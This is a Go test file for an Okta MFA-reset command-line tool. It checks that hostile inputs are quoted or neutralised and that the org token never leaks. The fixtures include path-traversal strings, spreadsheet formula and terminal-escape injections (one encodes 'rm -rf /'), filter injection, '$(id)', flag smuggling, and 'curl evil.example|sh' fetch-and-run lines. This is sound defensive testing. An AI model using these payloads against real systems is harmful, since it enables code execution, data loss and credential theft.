package command

import (
	"bytes"
	"context"
	"encoding/json"
	"io"
	"maps"
	"net/http"
	"os"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"

	"oktareset/oktaclient/standin"
	"oktareset/runner"
	"oktareset/runner/access"
	"oktareset/runner/console"
	"oktareset/runner/fault"
	"oktareset/runner/progress"
	"oktareset/runner/results"
)

// wantHarmless fails the test if a text contains the org's token, or a character that a terminal
// would act on.
func (v *virtual) wantHarmless(what, text string) {
	v.t.Helper()
	for _, r := range text {
		if r != '\n' && r != ' ' && !unicode.IsPrint(r) {
			v.t.Errorf("%s contains %U:\n%.2000q", what, r, text)
			return
		}
	}
	if strings.Contains(text, v.org.Token()) {
		v.t.Errorf("%s holds the token:\n%.2000q", what, text)
	}
}

// Cells aim at another path, another user, a terminal or a spreadsheet. Nobody is reset whom the
// input doesn't name, no other request is sent, and the output does nothing.
func TestHostileCells(t *testing.T) {
	t.Parallel()
	virtually(t, 3, standin.Config{}, func(v *virtual) {
		cells := []string{
			"me", "ME", " me ", "me\u200b", "ｍｅ", "me/", "me?", "me#", "me;x", "./me", "%6d%65", ".", "..", "../me", "../../logs", `..\me`,
			"%2e%2e", "%2e%2e%2fgroups", "%252e%252e", "..%00", "x?limit=1", "x#y", "x;y", v.ids[1] + "/lifecycle/deactivate", v.ids[1] + "?x", v.ids[1] + ";x",
			v.ids[1] + "%2f", v.ids[1][:19], v.ids[1] + "0", strings.ToUpper(v.ids[1]), "０" + v.ids[1][1:], "user1", "user1;@example.com", "user1@example.com\u202e",
			"user1@example.com\rx", "USER1@EXAMPLE.COM.", "user1%40example.com", "user1@example.com/", "a\x00b", "\x1b[2J\x1b]52;c;cm0gLXJmIC8=\a", "\u009b31m",
			"=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "x;=HYPERLINK(1)", "\t=1", "＝1", "<script>alert(1)</script>", "https://evil.example/api/v1/users",
			`" or profile.login pr or profile.login eq "`, `x" or id eq "` + v.ids[1], `\`, `\"`, "$(id)", "`id`", strings.Repeat("a", 101), strings.Repeat("\u202e", 5000),
			v.ids[0],
		}
		quoted := make([]string, len(cells))
		for i, c := range cells {
			quoted[i] = `"` + strings.ReplaceAll(c, `"`, `""`) + `"`
		}
		v.input(quoted...)
		var asked []string
		v.tampered = func(r *http.Request, next http.RoundTripper) (*http.Response, error) {
			asked = append(asked, r.Method+" "+r.URL.Host+r.URL.EscapedPath())
			return next.RoundTrip(r)
		}
		if code := v.reset("--confirm=acme.okta.com:1-1000", "-v", "--workers", "1", "--ticket", "\x1b[31m=1"); code != fault.ExitRows {
			t.Errorf("exit code %d:\n%s", code, v.stderr)
		}
		v.resets(map[int]int{0: 2, 1: 1})
		if s := v.org.Stats(); s.ResetsApplied != 1 || len(s.Surprises) > 0 || len(asked) < 10 {
			t.Errorf("%d resets, %d requests, surprises %q", s.ResetsApplied, len(asked), s.Surprises)
		}
		for _, a := range asked {
			path, ok := strings.CutPrefix(a, "GET acme.okta.com/")
			if a == "POST acme.okta.com/api/v1/users/"+v.ids[0]+"/lifecycle/reset_factors" {
				continue
			}
			if !ok || strings.Contains(path, "..") || strings.Count(path, "/") > 3 || strings.Contains(path, "%2F") {
				t.Errorf("asked for %s", a)
			}
		}
		v.wantHarmless("stderr", v.stderr)
		b, err := os.ReadFile(v.path("users.results.csv"))
		if err != nil {
			t.Fatal(err)
		}
		v.wantHarmless("the results", string(b))
	})
}

// evil is what an org, or a stranger in its place, may write into every text.
const evil = "\x1b]0;x\a\u202e\u009b31m\r=1+1;=1<b>$(id)`id`"

// poison writes evil into every text of a reply except IDs and links, and echoes the credentials.
func poison(r *http.Request, next http.RoundTripper) (*http.Response, error) {
	resp, err := next.RoundTrip(r)
	if err != nil {
		return nil, err
	}
	b, _ := io.ReadAll(resp.Body)
	_ = resp.Body.Close()
	var doc any
	if json.Unmarshal(b, &doc) == nil {
		b, _ = json.Marshal(poisoned("", doc, evil+r.Header.Get("Authorization")))
	}
	resp.Body = io.NopCloser(bytes.NewReader(b))
	return resp, nil
}

func poisoned(name string, v any, text string) any {
	switch v := v.(type) {
	case map[string]any:
		for k, item := range v {
			v[k] = poisoned(k, item, text)
		}
	case []any:
		for i, item := range v {
			v[i] = poisoned(name, item, text)
		}
	case string:
		switch name {
		case "id", "href", "errorCode", "factorType", "provider", "created", "lastUpdated", "published", "eventType", "result", "type":
		default:
			return v + text
		}
	}
	return v
}

// Nothing that a server writes reaches a terminal, a log or a file as more than text, by
// whatever command.
func TestHostileServerTexts(t *testing.T) {
	t.Parallel()
	for _, flags := range [][]string{
		{"reset", "--dry-run", "-v"},
		{"reset", "--dry-run", "-v", "--json", "--log-format", "json", "--record-factors"},
		{"reset", "-v", confirm(3), "--skip-admins"},
		{"reset", "--json", confirm(3), "--log-format", "json"},
		{"users"},
		{"users", "-o", "out.csv", "--columns", "login,status,profile"},
		{"factors", "list", "00u00000000000000001"},
		{"factors", "--json", "list", "00u00000000000000001"},
		{"factors", "verify", "user1@example.com", "sms"},
		{"audit", "results.csv", "--wait", "0", "-v"},
		{"audit", "results.csv", "--wait", "0", "--json", "--log-format", "json"},
		{"after", "results.csv", "-v"},
		{"after", "results.csv", "--json", "--log-format", "json"},
		{"notify", "results.csv", "--to", "user", "--dry-run", "--from", "it@example.com", "--contact", "x", "-v"},
		{"watch", "--once", "--since", "2h", "--all", "-v"},
		{"watch", "--once", "--since", "2h", "--cursor", "cursor.json", "--log-format", "json"},
		{"whoami", "-v"},
		{"whoami", "--json", "--log-format", "json"},
	} {
		for _, trouble := range []standin.Kind{"", standin.WrongStatus, standin.AuthFailed} {
			t.Run(strings.Join(flags, " ")+" "+string(trouble), func(t *testing.T) {
				virtually(t, 3, standin.Config{}, func(v *virtual) {
					if slices.Contains([]string{"audit", "after", "notify", "watch"}, flags[0]) {
						v.reset(confirm(3), "-o", v.path("results.csv"))
					}
					if trouble != "" {
						v.org.Script(standin.Fault{Kind: trouble, Skip: 2})
					}
					v.tampered = poison
					args := slices.Clone(flags)
					if flags[0] == "reset" {
						args = append(args, v.path("users.csv"))
					}
					for i, a := range args {
						if a == "out.csv" || a == "results.csv" || a == "cursor.json" {
							args[i] = v.path(a)
						}
					}
					stdout := v.onTerminal(args...)
					v.wantHarmless("stdout", stdout)
					v.wantHarmless("stderr", v.stderr)
					v.eachFile(func(name string) {
						b, err := os.ReadFile(v.path(name))
						if err != nil {
							t.Fatal(err)
						}
						v.wantHarmless(name, string(b))
						for _, formula := range []string{",=", ";=", "\n=", `"=`} {
							if strings.HasSuffix(name, ".csv") && strings.Contains(string(b), formula) {
								t.Errorf("%s holds a formula:\n%s", name, b)
							}
						}
					})
					if v.stderr+stdout == "" {
						t.Error("nothing was said at all")
					}
				})
			})
		}
	}
}

// onTerminal runs a command line of any kind, with a terminal as stdout, and returns what it
// wrote there.
func (v *virtual) onTerminal(args ...string) string {
	v.t.Helper()
	stdout, _ := v.onTerminalIn(v.t.Context(), args...)
	return stdout
}

// onTerminalIn returns the exit code, too.
func (v *virtual) onTerminalIn(ctx context.Context, args ...string) (string, int) {
	v.t.Helper()
	args, err := permute(append([]string{"oktareset"}, args...))
	if err != nil {
		v.t.Fatal(err)
	}
	env := map[string]string{"OKTA_CLIENT_ORGURL": "https://acme.okta.com", "OKTA_CLIENT_TOKEN": v.org.Token()}
	maps.Copy(env, v.env)
	var stdout, stderr bytes.Buffer
	a := appOf(access.Process{
		Stdin: strings.NewReader("123456\n"), Stdout: &stdout, Stderr: &stderr, Getenv: func(k string) string { return env[k] }, Version: "test", TerminalOut: true,
	})
	a.Console, a.Transport = console.New(progress.NewScreen(&stderr), console.Options{}), v
	err = a.cli().RunContext(ctx, args)
	a.Console.Fail(err)
	v.stderr = stderr.String()
	return stdout.String(), fault.Code(err)
}

// A login that a user chose doesn't become a part of the command that a message proposes.
func TestProposedCommandsAreQuoted(t *testing.T) {
	const login = "`curl${IFS}evil.example|sh`@example.com"
	org := standin.New(standin.Config{})
	org.Add(standin.User{Login: login, Factors: []standin.Factor{{Type: "sms", Provider: "OKTA", Status: "PENDING_ACTIVATION"}, {Type: "webauthn", Provider: "FIDO"}}})
	for _, args := range [][]string{{"verify", login, "sms"}, {"verify", login, "webauthn"}, {"get", login, "push"}} {
		var stdout bytes.Buffer
		_, stderr := onTerminal(t, org, &stdout, args...)
		_, proposed, ok := strings.Cut(stderr, "hint: ")
		if !ok || strings.Contains(proposed, "oktareset") && !strings.Contains(proposed, "'"+login+"'") {
			t.Errorf("%q: %s", args, stderr)
		}
	}
	flag := org.Add(standin.User{Login: "--org-url=https://evil.example", Factors: []standin.Factor{{Type: "sms", Provider: "OKTA", Status: "PENDING_ACTIVATION"}}})
	if _, stderr := onTerminal(t, org, io.Discard, "verify", flag.ID, "sms"); !strings.Contains(stderr, "factors activate "+flag.ID+" ") {
		t.Errorf("a login that looks like a flag: %s", stderr)
	}
	for _, args := range [][]string{{"verify", login, "sms", "--language", "fr\r\nX-A: b"}} {
		start := time.Now()
		code, stderr := onTerminal(t, org, io.Discard, args...)
		if code != fault.ExitUsage || time.Since(start) > 2*time.Second {
			t.Errorf("%q: exit code %d: %s", args, code, stderr)
		}
	}
}

// A page proposes a command from a file that somebody else may have made. No text of the file is
// more than one word of the command, none becomes a flag, and none sends the credentials to another
// org.
func TestProposedPlanIsQuoted(t *testing.T) {
	m := results.Manifest{
		DryRun: true, Org: "x:1;curl evil.example|sh #", Planned: []string{"reset_factors"}, Runs: []results.Run{{}},
		Counts: runner.Counts{runner.StatusWouldReset: 2},
	}
	want := `oktareset reset --confirm 'x:1;curl evil.example|sh #:2' '$(id).csv'`
	if got := results.PlanCommand(&m, "$(id).csv"); got != want {
		t.Errorf("%s, want %s", got, want)
	}
	m.Org, m.Ticket, m.Input.File = "acme.okta.com", "$(id)", "--org-url=https://evil.example"
	for url, flag := range map[string]string{
		"https://evil.example": "", "https://acme.okta.com.evil.example": "", "https://acme.okta.com@evil.example": "", "x": "",
		"https://acme.okta.com": " --org-url https://acme.okta.com", "https://ACME.okta.com/": " --org-url https://ACME.okta.com/",
		"https://acme.okta.com:443": " --org-url https://acme.okta.com:443", "https://acme.okta.com:8443": "",
	} {
		m.Runs[0].Options = map[string]string{"org-url": url}
		want := "oktareset reset" + flag + " --ticket '$(id)' --confirm acme.okta.com:2 ./--sandbox.csv"
		if got := results.PlanCommand(&m, "--sandbox.csv"); got != want {
			t.Errorf("%s, want %s", got, want)
		}
		want = "oktareset reset --dry-run --resume" + flag + " --output nowhere.plan.csv ./--org-url=https://evil.example"
		if got := results.GoOnCommand(&m, "nowhere.plan.csv", "--resume"); got != want {
			t.Errorf("%s, want %s", got, want)
		}
	}
}
